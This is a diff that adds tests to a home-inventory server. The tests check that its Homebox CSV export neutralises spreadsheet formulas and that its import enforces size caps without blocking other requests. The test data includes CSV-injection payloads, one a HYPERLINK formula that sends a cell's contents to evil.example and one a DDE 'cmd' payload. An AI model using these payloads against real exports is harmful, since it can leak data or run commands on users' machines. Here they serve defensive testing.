@@ -1,6 +1,8 @@
 // Moving the inventory in and out over HTTP: the JSON export (no file paths), the Homebox CSV
 // export and import (round trip into a fresh server gives the same devices), and a bad file.
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import http from 'node:http';
+import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { request } from 'undici';
 import { startTestServer, type TestServer } from '../harness/start-server.js';
 import { HomeInventoryStore } from '../../server/modules/home-inventory/store.js';
@@ -160,6 +162,107 @@ describe('home inventory: export and Homebox import', () => {
       store.transaction = real;
     }
     expect(await count(b)).toBe(before);
+  });
+});
+
+describe('home inventory: the Homebox CSV export never carries a spreadsheet formula', () => {
+  let a: TestServer;
+  let b: TestServer;
+  beforeAll(async () => {
+    [a, b] = await Promise.all([startTestServer({ seed: 'household' }), startTestServer({ seed: 'household' })]);
+  });
+  afterAll(async () => {
+    await a.close();
+    await b.close();
+  });
+
+  // the payloads of the attack probe (issue 29, item 3), plus values that only look like them
+  const NAMES = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', "'quoted from the start", "''two quotes", 'Plain kettle'];
+
+  it('prefixes a quote to every cell a spreadsheet would read as a formula, and importing the file gives the same values back', async () => {
+    for (const name of NAMES) {
+      const r = await a.member.post('/api/home/devices', { name, brand: '=1+1', model: '-DW 5', notes: '@mention me', supportPhone: '+44 330 160 6600', specs: { Size: '=A1*2', Grade: "'A" } });
+      expect(r.status, JSON.stringify(r.body)).toBe(201);
+    }
+    const csv = await a.member.get('/api/home/export?format=homebox');
+    expect(csv.status).toBe(200);
+    const cells = (parseCsv(csv.text, { relax_column_count: true }) as string[][]).flat();
+    // nothing a spreadsheet would evaluate: every such cell opens with the quote that neutralises it
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    expect(cells).toEqual(expect.arrayContaining(['\'=HYPERLINK("http://evil.example/?d="&A1,"Click")', "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3", "''quoted from the start", "'''two quotes", 'Plain kettle', "'=1+1", "'-DW 5", "'+44 330 160 6600"]));
+
+    const imported = await importCsv(b, csv.text);
+    expect(imported.status, JSON.stringify(imported.body)).toBe(200);
+    expect(imported.body).toEqual({ imported: NAMES.length, skipped: [] });
+    const list = (await b.member.get('/api/home/devices')).body.devices as Array<{ id: string; name: string }>;
+    expect(list.map((d) => d.name).sort()).toEqual([...NAMES].sort());
+    for (const { id } of list) {
+      const d = (await b.member.get(`/api/home/devices/${id}`)).body.device;
+      expect(d).toMatchObject({ brand: '=1+1', model: '-DW 5', notes: '@mention me', supportPhone: '+44 330 160 6600', specs: { Size: '=A1*2', Grade: "'A" } });
+    }
+  });
+
+  it('keeps a quote that opens a value in a file that came from Homebox itself', async () => {
+    await b.handle.deps.db('home_devices').delete();
+    const r = await importCsv(b, "HB.import_ref,HB.url,HB.name,HB.manufacturer\n,https://homebox.example/item/1,'Quoted name,'Acme\n");
+    expect(r.status, JSON.stringify(r.body)).toBe(200);
+    const [d] = (await b.member.get('/api/home/devices')).body.devices;
+    expect(d).toMatchObject({ name: "'Quoted name", brand: "'Acme" });
+  });
+});
+
+describe('home inventory: an import file is read off the event loop, within caps', () => {
+  let s: TestServer;
+  beforeAll(async () => {
+    s = await startTestServer({ seed: 'household' });
+  });
+  afterAll(() => s.close());
+
+  it('refuses a header of 100,000 columns, a row wider than the cap and more than 5,000 items with a 400 and a sentence, writing nothing', async () => {
+    const wide = `${['HB.name', ...Array.from({ length: 100_000 }, (_, i) => `HB.field.c${i}`)].join(',')}\nKettle\n`;
+    const r1 = await importCsv(s, wide);
+    expect(r1.status).toBe(400);
+    expect(r1.body.error).toEqual({ code: 'too_many_columns', message: expect.stringMatching(/^This file has more than 1,000 columns; .*Export the items from Homebox again/) });
+    const wideRow = `HB.name,HB.manufacturer\nKettle,${Array.from({ length: 1_500 }, () => 'x').join(',')}\n`;
+    const r2 = await importCsv(s, wideRow);
+    expect(r2.status).toBe(400);
+    expect(r2.body.error.code).toBe('too_many_columns');
+    const long = `HB.name\n${Array.from({ length: 5_001 }, (_, i) => `Kettle ${i}`).join('\n')}\n`;
+    const r3 = await importCsv(s, long);
+    expect(r3.status).toBe(400);
+    expect(r3.body.error).toEqual({ code: 'too_many_rows', message: 'This file has more than 5,000 items; Hearth imports up to 5,000 at a time. Split it and import each part.' });
+    expect(await count(s)).toBe(0);
+  });
+
+  it('answers a request made while a large file is parsed before it answers the import', async () => {
+    // ~4 MB of rows that end in an unclosed quote: the whole file is parsed before the answer (400)
+    const row = `"Kettle","Bosch","${'Descale every three months. '.repeat(30)}"`;
+    const file = `HB.name,HB.manufacturer,HB.notes\n${Array.from({ length: 4_500 }, () => row).join('\n')}\n"Unclosed,Bosch,x\n`;
+    let ready: Promise<unknown> | null = null;
+    // the moment the server has read the whole import body (this test runs in the server's
+    // process): from here on the file is being parsed, and a request made now must not wait for it
+    const emit = http.IncomingMessage.prototype.emit;
+    const spy = vi.spyOn(http.IncomingMessage.prototype, 'emit').mockImplementation(function (this: http.IncomingMessage & { originalUrl?: string }, event: string | symbol, ...args: unknown[]) {
+      if (event === 'end' && this.originalUrl === '/api/home/import' && !ready) ready = request(`${s.url}/api/system/ready`).then((r) => r.body.text());
+      return emit.call(this, event, ...args);
+    });
+    const from = s.logger.lines.length;
+    try {
+      const imported = await importCsv(s, file);
+      expect(imported.status).toBe(400);
+      expect(imported.body.error.message).toMatch(/not a CSV Hearth can read/);
+      expect(ready, 'the server read the import body').not.toBeNull();
+      await ready;
+    } finally {
+      spy.mockRestore();
+    }
+    // the order the server finished its answers in (its request log): the ready route's first. On
+    // the main thread the parse held every other request until the import had been answered.
+    const answered = s.logger.lines
+      .slice(from)
+      .filter((l) => l.msg === 'request')
+      .map((l) => `${String(l.path)} ${String(l.status)}`);
+    expect(answered).toEqual(['/api/system/ready 200', '/api/home/import 400']);
   });
 });
 
